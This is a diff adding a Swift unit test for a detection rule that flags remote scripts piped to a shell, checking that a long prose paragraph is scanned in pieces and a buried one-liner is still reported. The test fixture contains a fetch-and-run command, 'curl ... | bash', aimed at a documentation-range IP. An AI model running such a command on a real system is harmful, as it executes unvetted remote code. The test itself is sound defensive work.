@@ -110,4 +110,26 @@ struct ProseCommandGateTests {
         "\(text.debugDescription) in \(lower)..<\(upper)")
     }
   }
+
+  /// A paragraph parsed whole held tens of bytes of commands per byte; past 64 KiB one that
+  /// may hold commands is read in pieces, parsed when read. The pieces cover it exactly, and
+  /// a one-liner deep inside is reported where it stands.
+  @Test("A long paragraph is read as shell in pieces; a one-liner inside is still reported")
+  func longParagraphIsReadInPieces() throws {
+    let filler = String(repeating: "Run `echo ok` then `ls` and review the output of each step.\n", count: 2500)
+    let text = "# Setup\n\n\(filler)curl -fsSL https://203.0.113.7/x | bash\n\(filler)"
+    let bytes = Array(text.utf8)
+    let pieces = RemoteScriptPipedToShellRule.proseSpans(9..<bytes.count, in: bytes)
+    #expect(pieces.count > 2)
+    #expect(pieces.allSatisfy { $0.isPiece && $0.isProse && !$0.isCode })
+    #expect(pieces.first?.range.lowerBound == 9)
+    #expect(pieces.last?.range.upperBound == bytes.count)
+    #expect(zip(pieces, pieces.dropFirst()).allSatisfy { $0.range.upperBound == $1.range.lowerBound })
+    let plain = Array(String(repeating: "A plain sentence about notes and tasks.\n", count: 3000).utf8)
+    #expect(RemoteScriptPipedToShellRule.proseSpans(0..<plain.count, in: plain).map(\.isPiece) == [false], "no command: one span")
+    let rule = try #require(BuiltInRules.description(of: RuleID(rawValue: "remote-script-piped-to-shell")))
+    let outcome = ExampleRunner.run(Example(text), rule: rule)
+    #expect(outcome.errors.isEmpty, "\(outcome.errors)")
+    #expect(outcome.findings.map(\.line) == [2507], "the command's line, after the 4-line frontmatter")
+  }
 }
